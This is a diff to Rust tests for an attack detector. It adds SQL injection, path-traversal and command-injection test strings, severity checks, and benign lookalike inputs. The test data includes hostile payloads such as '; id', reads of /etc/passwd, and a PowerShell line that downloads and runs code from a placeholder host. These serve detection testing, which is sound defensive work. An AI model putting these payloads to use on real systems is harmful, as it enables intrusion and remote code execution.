@@ -39,6 +39,7 @@ fn sqli_attacks() {
         "'; waitfor delay '0:0:5'--",
         "select * from information_schema.tables",
         "%2527%2520or%25201%253D1--",
+        "1 OR TRUE",
     ] {
         assert!(is_sqli(a), "missed: {a}");
     }
@@ -137,12 +138,22 @@ fn traversal_attacks() {
     assert!(rules("..%5c..%5cwindows%5cwin.ini").contains(&"traversal.dotdot"));
     assert!(rules("%252e%252e%252fetc%252fshadow").contains(&"traversal.dotdot"));
     assert!(rules("..;/..;/admin").contains(&"traversal.dotdot"));
-    assert!(rules("%c0%ae%c0%ae/").is_empty() || !rules("%c0%ae%c0%ae/").is_empty());
     assert_eq!(
         rules("php://filter/convert.base64-encode/resource=index"),
         ["traversal.stream-wrapper"]
     );
     assert_eq!(rules("/proc/self/environ"), ["traversal.sensitive-file"]);
+    // The value is the path: critical. A mention inside text: error.
+    assert_eq!(trav("/etc/passwd")[0].severity, Severity::Critical);
+    assert_eq!(
+        trav("c:\\windows\\system32\\x")[0].severity,
+        Severity::Critical
+    );
+    assert_eq!(
+        trav("note: /etc/passwd lists users")[0].severity,
+        Severity::Error
+    );
+    assert!(rules("..%c0%af..%c0%afetc").contains(&"traversal.dotdot"));
     // Inside a path that stays below the root: a warning only.
     assert_eq!(trav("docs/a/../b")[0].severity, Severity::Warning);
 }
@@ -216,6 +227,11 @@ fn cmdi_attacks() {
         "& powershell -enc AAAA",
         "; sleep 5",
         "{cat,/etc/passwd}",
+        "; id",
+        "&& id",
+        "& id",
+        "127.0.0.1; id",
+        "& dir c:\\",
         ";cat</etc/passwd",
         "a|iex (new-object net.webclient).downloadstring('http://x')",
     ] {
@@ -238,6 +254,10 @@ fn cmdi_benign_lookalikes() {
         "rock|paper|scissors",
         "id",
         "cat",
+        "5kg; cat litter",
+        "v2; find more in the docs",
+        "USB-C; sleep mode",
+        "R&D; id card required",
     ] {
         assert!(!is_cmdi(b), "false positive: {b}");
     }
